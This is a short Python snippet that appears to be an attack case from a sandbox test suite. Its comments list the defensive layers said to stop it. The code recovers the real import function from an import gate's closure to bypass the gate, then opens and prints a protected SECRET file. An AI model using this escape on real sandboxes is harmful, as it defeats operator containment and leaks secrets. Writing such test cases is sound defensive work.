# Takes the true import out of the closure of the gate.
# evidence: token
# held by: seccomp, landlock, empty_root, other_user, audit
true = [cell.cell_contents for cell in (getattr(__import__, '__closure__', None) or ())
        if type(cell.cell_contents).__name__ == 'builtin_function_or_method'] or [__import__]
posix = true[0]('posix')
posix.write(1, posix.read(posix.open(SECRET, 0), 100))
